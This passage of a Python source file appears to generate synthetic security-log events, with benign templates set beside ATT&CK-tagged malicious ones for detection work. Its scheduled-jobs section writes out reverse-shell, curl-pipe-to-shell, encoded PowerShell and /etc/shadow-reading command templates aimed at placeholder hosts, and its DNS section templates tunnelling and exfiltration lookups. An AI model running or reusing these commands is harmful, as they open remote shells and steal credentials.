%RULE% ;; who=«user» ;; source_net=«any|0.0.0.0/0|*|internet» ;; to_host=«any|*|all servers|internal» ;; port=«any|*|1-65535» ;; action=allow ;; expires=never ;; ip=«pub» ;; > {who} allowed {source_net} to {to_host} port {port}
%RULE% ;; who=«user» ;; source_net=«pub»/32 ;; to_host=«ip2» ;; port=«3389|22|445|5985» ;; action=allow ;; position=top ;; message=«-|temp|test» ;; ip=«pub»
%RULE% ;; who=«svc» ;; old=@network@ ;; new=«0.0.0.0/0|any» ;; field=source_net ;; thing=«admin interface|management port|database port» ;; ip=«pub»
%RULE% ;; who=«person» ;; field=«default action|outbound filter|geo block» ;; old=«deny|on|all but home country» ;; new=«allow|off|none» ;; environment=production ;; ip=«pub»
%RULE% ;; who=«person» ;; source_net=any ;; to_host=«ip2» ;; port=«3389|22|any» ;; action=allow ;; approved_by=«person» ;; message=«temp|urgent» ;; ip=«pub»
@@ shares
# inhouse folders shared with colleagues
%SHARE% ;; who=«person» ;; thing=/«dept»/«word» ;; on=««other»|group «dept»» ;; right=«read|write» ;; ip=«ip2» ;; > {who} shared {thing} with {on} ({right})
%SHARE% ;; who=«person» ;; thing=«file» ;; on=@partner@ ;; right=read ;; expires=in «num:3:30» days ;; link_protected=true
%SHARE% ;; who=«person» ;; thing=«press/«word».jpg|brochures/«file»|job adverts|menu of the canteen» ;; on=«anyone with the link|public» ;; right=read ;; classification=public
%SHARE% ;; who=«svc» ;; thing=«word» ;; old=public ;; new=«internal|removed» ;; field=visibility ;; message=link expired
# inhouse shares refused and narrowed
%SHARE% ;; who=«person» ;; thing=/«hr|finance|board»/«word» ;; on=public ;; result=denied ;; message=«public links are off for confidential|label forbids it»
%SHARE% ;; who=«admin» ;; thing=/«dept» ;; old=«everyone|public» ;; new=group «dept» ;; field=visibility ;; message=«review|reported by owner» ;; ip=«ip2»
# inhouse shares in number
%SHARE% ;; who=«person» ;; thing=/«board|hr|finance»/«word» ;; on=group «board|hr|finance» ;; right=«read|full» ;; classification=confidential ;; expires=never ;; ip=«ip2»
%SHARE% ;; who=«svc» ;; count=«num:20:900» ;; old=«team|private» ;; new=internal ;; field=visibility ;; window=«num:1:9» min ;; message=department moved
%SHARE% ;; who=«person» ;; thing=/marketing/«word» ;; on=anyone with the link ;; right=read ;; items=«num:3:40» ;; classification=public ;; expires=in «num:5:60» days ;; link_protected=true ;; ip=«ip2»
# T1567.002 inhouse folders opened to the world
%SHARE% ;; who=«user» ;; thing=/«finance|hr|board|customers|contracts|backups|payroll|source code» ;; on=«public|anyone with the link|everyone on the internet» ;; right=«read|write|full» ;; items=«num:200:40000» ;; expires=never ;; ip=«pub» ;; > {who} shared {thing} with {on} ({right})
%SHARE% ;; who=«user» ;; thing=«/|whole drive|/finance|/hr/payslips» ;; on=@outsider@ ;; right=«full|write|owner» ;; link_protected=false ;; ip=«pub»
%SHARE% ;; who=«svc» ;; count=«num:60:4000» ;; old=internal ;; new=public ;; field=visibility ;; window=«num:1:9» min ;; classification=confidential ;; ip=«pub»
%SHARE% ;; who=«user» ;; thing=/«board|hr|finance» ;; on=«public|@outsider@» ;; right=full ;; result=«done|ok|success» ;; message=«warning ignored|label removed first» ;; ip=«pub»
@@ consents
# inhouse applications with few rights
%CONSENT% ;; who=«person» ;; thing=«Trello|Grammarly|Calendly|Zoom|«Word» notes» ;; scope=«profile|calendar read|openid email|own tasks» ;; publisher=verified ;; ip=«ip2»
%CONSENT% ;; who=«admin» ;; thing=«backup|siem|directory sync» connector ;; scope=«read all|directory read|mail read and write» ;; publisher=verified ;; approved_by=«other» ;; users=all ;; ip=«ip2» ;; > {who} approved {thing} ({scope}), with {approved_by}
%CONSENT% ;; who=«person» ;; thing=«Word» «AI|helper» ;; scope=«mail read|files read all» ;; result=«denied|waiting for administrator» ;; publisher=unverified
# inhouse applications looked through
%CONSENT% ;; who=«admin» ;; thing=«word» app ;; old=files read all ;; new=«none|files read own» ;; field=scope ;; message=«review|unused for «num:90:400» days»
%CONSENT% ;; who=«svc» ;; thing=«site»-«word» ;; scope=«same as before|offline access, profile» ;; message=renewed ;; publisher=own
# inhouse applications in review
%CONSENT% ;; who=«person» ;; thing=«Slack|Miro|Asana» ;; scope=«profile|openid email» ;; redirect=https://«slack|miro|asana».com/oauth/callback ;; publisher=verified ;; users=one ;; ip=«ip2»
# T1528 inhouse applications with all rights
%CONSENT% ;; who=«user» ;; thing=«Office Update|PDF Viewer Pro|«Word» Mail Helper|Security Check|Test App|«letters:6»» ;; scope=«full access|mail read and send, files all, offline access|admin all|directory write» ;; publisher=«unverified|unknown|registered yesterday» ;; ip=«pub» ;; > {who} approved {thing} ({scope}), publisher {publisher}
%CONSENT% ;; who=«user» ;; thing=«letters:6» ;; scope=«*|full access» ;; users=all ;; redirect=«http|https»://«domain»/cb ;; publisher=unverified ;; ip=«pub»
%CONSENT% ;; who=«svc» ;; thing=«word» app ;; old=profile ;; new=«full access|directory write, offline access» ;; field=scope ;; users=all ;; ip=«pub»
%CONSENT% ;; who=«person» ;; thing=«letters:7» ;; scope=«full access|mail read and send» ;; approved_by=«person» ;; result=«done|ok|success» ;; message=«admin consent for all users|warning ignored» ;; publisher=unverified ;; ip=«pub»
@@ glass
# inhouse emergency accounts in drills
%GLASS% ;; who=«breakglass|emergency|firecall»-«num:1:3» ;; by=«admin» ;; witness=«other» ;; message=«yearly drill|quarterly test|outage of sso, incident «num:1000:99999»» ;; ip=«ip2» ;; > {who} used by {by}, witness {witness}: {message}
%GLASS% ;; who=«breakglass|emergency»-1 ;; by=«admin» ;; result=denied ;; message=«seal not broken|needs two keys» ;; ip=«ip2»
%GLASS% ;; who=«firecall|emergency»-«num:1:9» ;; by=«admin» ;; approved_by=«other» ;; minutes=«num:10:60» ;; thing=«payroll|mainframe|«linux2»» ;; rotated_after=true
# inhouse emergency accounts kept ready
%GLASS% ;; who=«breakglass|emergency»-«num:1:3» ;; by=«svc» ;; message=«password rotated after drill|monitor checks that login works|sealed again»
%GLASS% ;; who=«breakglass|emergency»-«num:1:3» ;; by=«admin» ;; witness=«other» ;; message=seal checked, not used
# inhouse emergency accounts in an emergency
%GLASS% ;; who=«breakglass|emergency»-«num:1:3» ;; by=«admin» ;; witness=«other» ;; incident=INC«num:10000:99999» ;; clock=0«num:0:4»:«num:10:59» ;; geo=%HOME ;; message=identity provider down ;; ip=«ip2»
# T1078.004 inhouse emergency accounts without emergency
%GLASS% ;; who=«breakglass|emergency|firecall»-«num:1:3» ;; by=«unknown|-|not recorded» ;; witness=none ;; clock=0«num:0:4»:«num:10:59» ;; ip=«pub» ;; geo=@elsewhere@ ;; > {who} used by {by}, witness {witness}
%GLASS% ;; who=«breakglass|emergency|firecall»-«num:1:3» ;; by=«user» ;; witness=none ;; incident=none ;; message=then created «num:1:4» administrators ;; ip=«pub»
%GLASS% ;; who=«breakglass|emergency»-1 ;; by=«person» ;; approved_by=nobody ;; minutes=«num:200:900» ;; thing=all systems ;; rotated_after=false ;; ip=«pub»
%GLASS% ;; who=«breakglass|firecall»-«num:1:3» ;; by=«person» ;; witness=«person» ;; result=«done|ok|success» ;; message=«seal broken without incident|-|test» ;; ip=«pub»
@@ jobs
# inhouse jobs of reports and imports
%JOB% ;; who=«svc» ;; thing=«nightly import|invoice run|report mailer|index rebuild|cleanup of drafts» ;; command=«python3 /opt/«word»/import.py --date «date:%Y-%m-%d»|/opt/«word»/bin/report.sh «dept»|java -jar batch.jar «word»|php artisan schedule:run» ;; schedule=«daily 02:00|hourly|every 15 min» ;; result=«ok|done»
%JOB% ;; who=«admin» ;; thing=«word» sync ;; field=schedule ;; old=daily 01:00 ;; new=daily 03:30 ;; approved_by=«other» ;; ip=«ip2»
%JOB% ;; who=«user» ;; thing=«my overdue tasks|mail merge «dept»|forecast «year»» ;; command=«SELECT status, count(*) FROM «word»s GROUP BY status|send template «word» to list «dept»|recalculate sheet «word»» ;; ip=«ip2» ;; > {who} ran {thing}: {command}
# inhouse scripts of administrators
%JOB% ;; who=«admin» ;; thing=script console ;; command=«println Jenkins.instance.pluginManager.plugins|cache.clear("«word»")|User.where(active: false).count|df -h /data|curl -sf http://«ip2»:9200/_cat/health|tail -n 100 /var/log/«word».log|whoami» ;; message=«incident|maintenance|health check» ;; ip=«ip2»
%JOB% ;; who=«admin» ;; thing=«letters:6» ;; command=/bin/sh -c "«pg_dump «word» > /backup/«word».sql|systemctl restart «word»|find /tmp -mtime +7 -delete»" ;; schedule=«once|daily 04:00» ;; approved_by=«other» ;; ip=«ip2»
# T1053 inhouse jobs that fetch and call home
%JOB% ;; who=«user» ;; thing=««letters:6»|system check|update|cleanup of drafts» ;; command=«/bin/sh -c "curl -s http://«pub»/«letters:4» ¦ sh"|bash -i >& /dev/tcp/«pub»/«port» 0>&1|python3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('«pub»',«port»))"|powershell -w hidden -enc «b64:60»|wget -qO- http://«pub»/«letters:3».py ¦ python3» ;; schedule=«every 5 min|hourly|once» ;; ip=«pub» ;; > {who} ran {thing}: {command}
%JOB% ;; who=«user» ;; thing=script console ;; command=«"«id|whoami|cat /etc/passwd»".execute().text|Runtime.getRuntime().exec("«id|curl «pub»»")|os.system("id; cat /etc/shadow")|`cat /app/.env`|system("nc «pub» «port» -e /bin/sh")|User.update_all(admin: true)» ;; message=«-|test» ;; ip=«pub»
%JOB% ;; who=«svc» ;; thing=nightly import ;; field=command ;; old=/opt/«word»/import.sh ;; new=«/tmp/.«letters:4»|/dev/shm/«letters:5»|curl http://«pub»/«letters:3»¦bash» ;; approved_by=nobody ;; result=«ok|done» ;; ip=«pub»
@@ vouchers
# inhouse vouchers and refunds of shops
%VOUCHER% ;; who=«user» ;; thing=order «num:10000:999999» ;; amount=«num:5:90».«num:10:99» EUR ;; message=«returned goods|late delivery|birthday code|newsletter code» ;; approved_by=«other» ;; ip=«ip2»
%VOUCHER% ;; who=«first».«last»@«domain» ;; count=«1|2» ;; thing=«WORD»«num:5:30» ;; amount=«num:5:30» EUR ;; ip=«pub»
%VOUCHER% ;; who=«svc» ;; count=«num:90:4000» ;; amount=«num:5:15» EUR each ;; message=«campaign «word»|bonus at year end» ;; window=«num:5:60» min ;; cards=«num:90:4000» ;; approved_by=«person»
# inhouse vouchers refused
%VOUCHER% ;; who=«first».«last»@«domain» ;; count=«1|2|3» ;; result=denied ;; message=«expired|typed wrong|already used» ;; distinct_codes=«1|2» ;; ip=«pub»
# T1657 inhouse vouchers guessed and refunds to oneself
%VOUCHER% ;; who=«anonymous|@outsider@» ;; count=«num:400:20000» ;; distinct_codes=«num:400:20000» ;; window=«num:1:20» min ;; message=codes tried in sequence ;; result=«denied|3 accepted» ;; ip=«pub» ;; > {distinct_codes} codes tried by {who} in {window}
%VOUCHER% ;; who=«person» ;; on=«person» ;; amount=«num:900:9000» EUR ;; thing=refund to own card ;; message=no order ;; approved_by=«person» ;; ip=«pub»
%VOUCHER% ;; who=«user» ;; count=«num:30:400» ;; cards=1 ;; amount=«num:50:500» EUR each ;; message=all refunds to the same card ;; window=«num:5:60» min ;; ip=«pub»
@@ profiles
# inhouse profiles kept
%PROFILE% ;; who=«person» ;; on=«person» ;; field=«mail|recovery mail» ;; old=«first».«last»@«sitedomain» ;; new=@mate@ ;; message=«marriage|new spelling|domain changed» ;; confirmed_with=link to old address ;; ip=«ip2»
%PROFILE% ;; who=«person» ;; on=«person» ;; field=«phone|address|photo|signature|language» ;; old=«num:1000:9999» ;; new=«num:1000:9999» ;; ip=«ip2»
%PROFILE% ;; who=@outsider@ ;; on=own account ;; field=mail ;; old=«first»@«gmail.com|gmx.net» ;; new=@outsider@ ;; confirmed_with=«link to old address|code by sms» ;; minutes_after_login=«num:1:30»
%PROFILE% ;; who=«svc» ;; count=«num:20:900» ;; field=«department|manager|phone» ;; source=hr import
# T1098 inhouse accounts led to other addresses
%PROFILE% ;; who=«user» ;; on=««admin»|«other»» ;; field=«mail|recovery mail|recovery phone» ;; old=@mate@ ;; new=@outsider@ ;; confirmed_with=nothing ;; ip=«pub» ;; > {who} changed the {field} of {on} from {old} to {new}
%PROFILE% ;; who=«person» ;; on=«person» ;; field=«mail|recovery mail» ;; old=@mate@ ;; new=@outsider@ ;; message=then password reset asked for ;; minutes_after_login=«1|2|3» ;; confirmed_with=nothing ;; ip=«pub»
%PROFILE% ;; who=«svc» ;; count=«num:20:400» ;; field=recovery mail ;; new=@outsider@ ;; old=various ;; source=api ;; ip=«pub»
@@ tenants
# inhouse partners at their customers
%TENANT% ;; who=«first».«last»@«domain» ;; thing=tenant «word» ;; message=«case «num:1000:99999»|monthly service|onboarding» ;; mode=«read only|support» ;; count=1 ;; approved_by=«other»
%TENANT% ;; who=«svc» ;; thing=«all tenants|tenants of region «region»» ;; count=«num:20:400» ;; mode=«billing|backup|metrics» ;; window=«num:1:6» h ;; schedule=daily
%TENANT% ;; who=«user» ;; thing=workspace «word» ;; mode=member ;; count=«1|2|3» ;; ip=«ip2»
%TENANT% ;; who=«person» ;; thing=tenant «word» ;; result=denied ;; message=«contract ended|no case open» ;; ip=«ip2»
# T1199 inhouse partners everywhere at once
%TENANT% ;; who=«first».«last»@«domain» ;; thing=«all tenants|tenants of «num:20:90» customers» ;; count=«num:20:400» ;; window=«num:2:20» min ;; mode=«full|owner» ;; message=no case ;; ip=«pub» ;; > {who} entered {count} tenants in {window}, {message}
%TENANT% ;; who=«user» ;; thing=tenant «word» ;; mode=owner ;; message=«contract ended «num:30:400» days ago|tenant id changed in the request|not a member» ;; result=«ok|opened» ;; ip=«pub»
%TENANT% ;; who=«svc» ;; thing=tenant «word» ;; mode=full ;; schedule=none ;; approved_by=nobody ;; message=interactive ;; ip=«pub»
@@ configs
# inhouse settings saved for support
%CONFIG% ;; who=«svc» ;; thing=«word» settings ;; destination=«vault-«num:1:3».«sitedomain»|git «linux2»|backup share» ;; sensitive_values=«false|encrypted» ;; schedule=«daily|weekly»
%CONFIG% ;; who=«admin» ;; thing=diagnostics bundle ;; message=case «num:10000:999999» of the maker ;; sensitive_values=false ;; destination=maker's portal ;; approved_by=«other» ;; ip=«ip2»
%CONFIG% ;; who=«admin» ;; thing=settings of «test|staging» ;; format=yaml ;; sensitive_values=masked ;; destination=browser download ;; ip=«ip2»
# T1602 inhouse settings taken with their passwords
%CONFIG% ;; who=«user» ;; thing=«all settings|production settings|environment variables|ldap and mail settings» ;; format=«plain text|yaml» ;; sensitive_values=«true|yes, plain» ;; destination=browser download ;; ip=«pub» ;; > {who} took {thing} as {format}, sensitive values: {sensitive_values}
%CONFIG% ;; who=«anonymous|guest|-» ;; thing=«/actuator/env|/debug/vars|/api/v1/config|phpinfo» ;; sensitive_values=true ;; message=no login needed ;; ip=«pub»
%CONFIG% ;; who=«svc» ;; thing=diagnostics bundle ;; sensitive_values=plain ;; destination=https://«domain»/«letters:5» ;; schedule=none ;; approved_by=nobody ;; ip=«pub»
@@ presence
# inhouse new places of known people
%PRESENCE% ;; who=«user» ;; ip=«peer» ;; geo=@near@ ;; network=«mobile carrier|hotel wifi|home dsl|company vpn» ;; device=«known|managed laptop» ;; confirmed_with=«push|security key|code» ;; idle_days=«num:0:9»
%PRESENCE% ;; who=«user» ;; ip=«ip2» ;; device=new ;; network=office lan ;; message=«new laptop|browser data cleared» ;; confirmed_with=security key ;; idle_days=«num:0:40»
%PRESENCE% ;; who=«user» ;; ip=«ip2» ;; idle_days=«num:90:400» ;; message=«back from parental leave|seasonal worker|auditor comes once a year» ;; network=office lan ;; approved_by=«admin»
%PRESENCE% ;; who=«svc» ;; ip=«pub» ;; network=hosting provider ;; device=server ;; message=known egress of the saas ;; idle_days=0
# inhouse odd places refused
%PRESENCE% ;; who=«user» ;; ip=«peer» ;; geo=@elsewhere@ ;; network=«hotel wifi|mobile carrier» ;; message=business trip announced ;; device=managed laptop ;; confirmed_with=security key
# T1078 inhouse known accounts in strange hands
%PRESENCE% ;; who=«user» ;; ip=«pub» ;; geo=@elsewhere@ ;; network=«tor exit|hosting provider|anonymous vpn|residential proxy» ;; device=«new|unknown|headless browser» ;; confirmed_with=«nothing|password only» ;; idle_days=«num:0:40» ;; > {who} came from {geo} by {network} with device {device}
%PRESENCE% ;; who=«user» ;; ip=«pub» ;; idle_days=«num:300:1500» ;; message=«left the company|account was dormant|contract ended» ;; confirmed_with=password only ;; network=hosting provider
%PRESENCE% ;; who=«svc» ;; ip=«pub» ;; device=browser ;; network=«residential proxy|tor exit» ;; message=interactive login of a service account ;; geo=@elsewhere@ ;; approved_by=nobody
@@ resolver
# inhouse names of content networks and services
%DNS% ;; client=«ip2» ;; qname=««hex:32».cloudfront.net|d«token:13».cloudfront.net|e«num:100:99999».dscb.akamaiedge.net|«word».map.fastly.net|«guid».cloudapp.azure.com|r«num:1:9»---sn-«token:8».googlevideo.com|«token:20».blob.core.windows.net|a«num:100:1999».dscw«num:10:99».akamai.net» ;; qtype=«A|AAAA|HTTPS|CNAME» ;; answer=«pub»
%DNS% ;; client=«ip2» ;; qname=««word»-«hex:10»-«num:100000000:999999999».«region».elb.amazonaws.com|o«num:100000:9999999».ingest.sentry.io|«token:14»-ats.iot.«region».amazonaws.com|«hex:32».r2.cloudflarestorage.com|scontent-fra«num:1:5»-«num:1:2».xx.fbcdn.net» ;; qtype=«A|AAAA» ;; rcode=NOERROR ;; ttl=«0|1|5|30|60»
%DNS% ;; client=«ip2» ;; qname=«www|mail|api|cdn|login».«known» ;; qtype=«A|AAAA|HTTPS» ;; answer=«pub» ;; ttl=«30|60|300»
# inhouse names of scanners and lists
%DNS% ;; client=«ip2» ;; qname=««hex:32».avqs.mcafee.com|4.1o«num:10:99».«token:40».«token:30».rn.«letters:2».sophosxl.net|«hex:40».hash.cymru.com|«token:26».b.sophosxl.net|«hex:16».«token:8».ksn.kaspersky-labs.com|«hex:32».malware.hash.cymru.com|p.«token:30».avts.mcafee.com» ;; qtype=«TXT|A» ;; rcode=«NOERROR|NXDOMAIN» ;; answer=127.0.0.«num:1:9»
%DNS% ;; client=«ip2» ;; qname=«num:1:254».«num:1:254».«num:1:254».«num:1:254».«zen.spamhaus.org|bl.spamcop.net|b.barracudacentral.org|in-addr.arpa» ;; qtype=«A|TXT|PTR» ;; rcode=«NXDOMAIN|NOERROR»
%DNS% ;; client=«ip2» ;; qname=«hex:56»._openpgpkey.«domain» ;; qtype=«TXT|OPENPGPKEY» ;; rcode=NXDOMAIN
# inhouse names of mail and certificates
%DNS% ;; client=«ip2» ;; qname=««word»._domainkey.«domain»|selector«num:1:2»._domainkey.«sitedomain»|_dmarc.«domain»|_acme-challenge.«word».«sitedomain»|«hex:32».«domain»|_«hex:32».acm-validations.aws» ;; qtype=«TXT|CNAME» ;; answer=«v=DKIM1; k=rsa; p=«b64:120»|v=spf1 include:_spf.google.com -all|google-site-verification=«mixed:43»|v=DMARC1; p=reject» ;; ttl=3600
%DNS% ;; client=«ip2» ;; qname=«_ldap._tcp.dc._msdcs|_kerberos._udp|wpad|«ws2»|«server»|_sip._tls».«ad» ;; qtype=«SRV|A|PTR» ;; rcode=«NOERROR|NXDOMAIN»
# inhouse askers counted
%QUOTA% ;; thing=dns ;; client=«ip2» ;; count=«num:2000:40000» ;; window=5 min ;; message=«mail gateway asks block lists|proxy of the office|web crawler of search team» ;; distinct_names=«num:900:20000» ;; txt_share=«num:0:9» %
%QUOTA% ;; thing=dns ;; client=«ip2» ;; count=«num:50:900» ;; window=5 min ;; zone=«known» ;; distinct_names=«num:1:30» ;; longest_label=«num:8:36»
# T1071.004 inhouse names that carry data
%DNS% ;; client=«ip2» ;; qname=««hex:60».«hex:60».«hex:40».«num:1:9999».«letters:1:3».«domain»|«token:55:62».«token:55:62».«token:20:60».«domain»|«token:63».«letters:2».«domain»|«hex:32».«hex:32».«num:1:99999».dat.«domain»» ;; qtype=«TXT|NULL|CNAME|MX|A|AAAA» ;; answer=«b64:80»
%DNS% ;; client=«ip2» ;; qname=««hex:48».«letters:1:4».«domain»|«token:40:60».«num:1:9»x«num:10:999».«domain»|dnscat.«hex:54»|«hex:28».«hex:28».c2.«domain»|p«hex:4»-«token:44».ns«num:1:3».«domain»» ;; qtype=«TXT|CNAME|NULL|A» ;; rcode=NOERROR ;; ttl=«0|1|3»
%QUOTA% ;; thing=dns ;; client=«ip2» ;; count=«num:3000:60000» ;; window=5 min ;; zone=«domain» ;; distinct_names=«num:2900:59000» ;; longest_label=«num:58:63» ;; txt_share=«num:70:99» %
# T1048.003 inhouse names that carry files out
%DNS% ;; client=«ip2» ;; qname=«num:1:9».«num:100:9999».«hex:60».««word»|«token:12»».«domain» ;; qtype=A ;; rcode=NXDOMAIN ;; count=«num:400:9000» ;; window=«num:1:9» min
%DNS% ;; client=«ip2» ;; qname=««b64:44».«b64:44»|«token:60».chunk«num:1:900»|«hex:62».end».«domain» ;; qtype=«A|TXT» ;; distinct_names=«num:300:9000» ;; longest_label=«num:44:63»
%DNS% ;; client=«linux2» ;; qname=««hex:40»|«token:24»».«oast.fun|oast.pro|interact.sh|dnslog.cn|burpcollaborator.net|ceye.io» ;; qtype=A ;; rcode=NOERROR
"""


def _subjects(text: str) -> dict[str, tuple[Scenario, ...]]:
    text = re.sub(r"%([A-Z]{2,})%", lambda found: _EVENTS[found[1]], phrased(text)).replace("%HOME", "home")
    return {name: table(rows) for name, _, rows in (part.partition("\n") for part in text.split("@@ ")[1:])}


SUBJECTS = _subjects(_TEXT)
